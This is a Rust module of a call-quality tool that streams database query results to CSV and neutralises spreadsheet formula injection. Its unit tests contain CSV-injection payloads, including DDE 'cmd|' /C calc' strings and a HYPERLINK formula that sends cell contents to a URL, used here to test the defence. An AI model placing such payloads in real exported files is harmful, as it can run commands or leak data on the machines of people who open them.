//! `callq export`: CSV of calls, evaluations, recommendations or the review queue, streamed
//! row by row from PostgreSQL (`query_raw`), so a million rows take as little memory as ten.
//! Every column is converted to text by PostgreSQL, the way psql shows it, so numbers keep
//! their full precision and dates their ISO form.

use crate::severity::{Severe, Severity};
use std::borrow::Cow;
use std::io::Write;

use chrono::NaiveDate;
use futures::TryStreamExt;
use tokio_postgres::Client;
use tokio_postgres::types::{Kind, ToSql, Type};

use crate::cli::ExportKind;

/// What Excel needs to read a CSV file as UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

#[derive(Debug, Clone, Default)]
pub struct ExportFilter {
    pub from: Option<NaiveDate>,
    pub to: Option<NaiveDate>,
    pub department: Option<i32>,
    pub operator: Option<i32>,
    pub min_percent: Option<f64>,
    pub max_percent: Option<f64>,
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("{0}")]
    Input(String),
    #[error(
        "the database has no v_review_queue view, so there is no review queue to export \
         (it comes with a newer callq migration: run `callq migrate`)"
    )]
    NoReviewQueue,
    #[error("database: {0}")]
    Query(#[from] tokio_postgres::Error),
    #[error("{target}: cannot write: {error}")]
    Write {
        target: String,
        error: std::io::Error,
    },
}

impl Severe for ExportError {
    fn severity(&self) -> Severity {
        match self {
            ExportError::Input(_) | ExportError::NoReviewQueue | ExportError::Write { .. } => {
                Severity::Input
            }
            ExportError::Query(_) => Severity::Unavailable,
        }
    }
}

/// `alias.` + the filter on day, department, operator and percentage; $1..$6.
fn filter_sql(alias: &str, has_department: bool) -> String {
    let department = if has_department {
        format!("AND ($3::int IS NULL OR {alias}department_id = $3)")
    } else {
        "AND $3::int IS NULL".to_string()
    };
    format!(
        "($1::date IS NULL OR {alias}day >= $1) AND ($2::date IS NULL OR {alias}day <= $2) \
         {department} AND ($4::int IS NULL OR {alias}operator_id = $4) \
         AND ($5::float8 IS NULL OR {alias}performance_percentage >= $5) \
         AND ($6::float8 IS NULL OR {alias}performance_percentage <= $6)"
    )
}

/// The query of `kind`, before its columns are turned into text.
async fn base_query(client: &Client, kind: ExportKind) -> Result<String, ExportError> {
    Ok(match kind {
        ExportKind::Calls => format!(
            "SELECT call_id, day, start_time, operator_id, operator_name, department_id,
                    department_name, office_name, supervisor_name, total_score, max_score,
                    performance_percentage, score_share, duration_s, call_direction, model,
                    checklist_version, analyzed_at
             FROM v_scored_calls WHERE {} ORDER BY day, start_time, call_id",
            filter_sql("", true)
        ),
        ExportKind::Evaluations => format!(
            "SELECT s.call_id, s.day, s.operator_id, s.operator_name, s.department_id,
                    s.performance_percentage, e.category, e.criterion, e.score, e.max_score, e.reason
             FROM call_evaluations e JOIN v_scored_calls s ON s.call_id = e.call_id
             WHERE {} ORDER BY s.day, s.call_id, e.id",
            filter_sql("s.", true)
        ),
        ExportKind::Recommendations => format!(
            "SELECT s.call_id, s.day, s.operator_id, s.operator_name, s.department_id,
                    s.performance_percentage, r.category, r.issue, r.recommendation, r.priority
             FROM call_recommendations r JOIN v_scored_calls s ON s.call_id = r.call_id
             WHERE {} ORDER BY s.day, s.call_id, r.id",
            filter_sql("s.", true)
        ),
        ExportKind::Review => {
            let exists: bool = client
                .query_one("SELECT to_regclass('v_review_queue') IS NOT NULL", &[])
                .await?
                .get(0);
            if !exists {
                return Err(ExportError::NoReviewQueue);
            }
            // The view is someone else's: filter on department only if it has the column.
            let probe = client.prepare("SELECT * FROM v_review_queue LIMIT 0").await?;
            let has_department = probe.columns().iter().any(|c| c.name() == "department_id");
            format!(
                "SELECT q.* FROM v_review_queue q WHERE {} ORDER BY q.day, q.call_id",
                filter_sql("q.", has_department)
            )
        }
    })
}

/// Writes `kind` as CSV to `out`: a BOM, a header row, one line per row. Returns the rows.
pub async fn export(
    client: &Client,
    kind: ExportKind,
    filter: &ExportFilter,
    delimiter: u8,
    out: &mut (dyn Write + Send),
    target: &str,
) -> Result<u64, ExportError> {
    if let (Some(from), Some(to)) = (filter.from, filter.to)
        && from > to
    {
        return Err(ExportError::Input(format!(
            "--from {from} is after --to {to}"
        )));
    }
    if let (Some(min), Some(max)) = (filter.min_percent, filter.max_percent)
        && min > max
    {
        return Err(ExportError::Input(format!(
            "--min-percent {min} is above --max-percent {max}"
        )));
    }
    let base = base_query(client, kind).await?;
    let probe = client.prepare(&base).await?;
    let names: Vec<String> = probe
        .columns()
        .iter()
        .map(|c| c.name().to_string())
        .collect();
    if kind == ExportKind::Review
        && filter.department.is_some()
        && !names.iter().any(|n| n == "department_id")
    {
        return Err(ExportError::Input(
            "--department: v_review_queue has no department_id column".into(),
        ));
    }
    // Numbers are written as PostgreSQL prints them and stay numbers; every other column
    // can hold what a person or the model wrote, so it is neutralised for spreadsheets.
    let text_columns: Vec<bool> = probe
        .columns()
        .iter()
        .map(|c| !is_number(c.type_()))
        .collect();
    let casts: Vec<String> = probe
        .columns()
        .iter()
        .enumerate()
        .map(|(i, c)| {
            let col = format!("t.{}", quote_ident(c.name()));
            let cast = if matches!(c.type_().kind(), Kind::Array(_)) {
                format!("array_to_string({col}, '; ')")
            } else {
                format!("{col}::text")
            };
            format!("{cast} AS c{i}")
        })
        .collect();
    let sql = format!("SELECT {} FROM ({base}) t", casts.join(", "));
    let params: [&(dyn ToSql + Sync); 6] = [
        &filter.from,
        &filter.to,
        &filter.department,
        &filter.operator,
        &filter.min_percent,
        &filter.max_percent,
    ];
    let write_err = |error: std::io::Error| ExportError::Write {
        target: target.to_string(),
        error,
    };
    let csv_err = |e: csv::Error| write_err(std::io::Error::other(e));
    out.write_all(BOM).map_err(write_err)?;
    let mut w = csv::WriterBuilder::new()
        .delimiter(delimiter)
        .from_writer(out);
    w.write_record(&names).map_err(csv_err)?;
    let stream = client.query_raw(&sql, params.iter().copied()).await?;
    futures::pin_mut!(stream);
    let mut rows = 0u64;
    while let Some(row) = stream.try_next().await? {
        for (i, &text) in text_columns.iter().enumerate() {
            let value = row.get::<_, Option<&str>>(i).unwrap_or("");
            let cell = if text {
                neutralise(value)
            } else {
                Cow::Borrowed(value)
            };
            w.write_field(cell.as_bytes()).map_err(csv_err)?;
        }
        w.write_record(None::<&[u8]>).map_err(csv_err)?;
        rows += 1;
    }
    w.flush().map_err(write_err)?;
    Ok(rows)
}

/// The first characters that make Excel, LibreOffice or Google Sheets read a cell as a
/// formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab, a carriage return.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as a spreadsheet must show it: one starting like a formula gets a leading
/// `'`, which spreadsheets read as "text" (the CSV writer then quotes it if it needs to).
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if value.starts_with(FORMULA_START) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// Whether PostgreSQL prints the type as a plain number (a domain over one included).
fn is_number(ty: &Type) -> bool {
    match ty.kind() {
        Kind::Domain(inner) => is_number(inner),
        _ => [
            Type::INT2,
            Type::INT4,
            Type::INT8,
            Type::FLOAT4,
            Type::FLOAT8,
            Type::NUMERIC,
            Type::OID,
        ]
        .contains(ty),
    }
}

fn quote_ident(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identifiers_are_quoted() {
        assert_eq!(quote_ident("day"), "\"day\"");
        assert_eq!(quote_ident("a\"b"), "\"a\"\"b\"");
    }

    #[test]
    fn cells_starting_like_a_formula_get_a_leading_apostrophe() {
        for (value, cell) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"Клик\")",
                "'=HYPERLINK(\"http://x\"&A1,\"Клик\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("Иванова Анна", "Иванова Анна"),
            ("a=b", "a=b"),
            (" =1", " =1"),
            ("", ""),
        ] {
            assert_eq!(neutralise(value), cell, "{value:?}");
        }
    }

    #[test]
    fn only_number_types_are_left_as_they_are() {
        assert!(is_number(&Type::INT4) && is_number(&Type::FLOAT8) && is_number(&Type::NUMERIC));
        assert!(!is_number(&Type::TEXT) && !is_number(&Type::JSONB) && !is_number(&Type::DATE));
    }

    #[test]
    fn a_view_without_department_ignores_only_an_unset_filter() {
        let sql = filter_sql("q.", false);
        assert!(sql.contains("$3::int IS NULL"));
        assert!(!sql.contains("department_id"));
        assert!(filter_sql("s.", true).contains("s.department_id = $3"));
    }
}
